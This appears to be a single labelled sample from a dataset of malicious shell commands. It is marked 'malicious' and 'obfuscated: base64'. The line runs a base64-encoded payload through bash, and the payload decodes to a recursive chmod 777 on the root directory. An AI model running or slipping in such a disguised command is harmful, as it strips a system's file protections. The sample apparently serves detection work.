# label: malicious; obfuscated: base64
bash <<< "$(base64 -d <<< Y2htb2QgLVIgNzc3IC8=)"
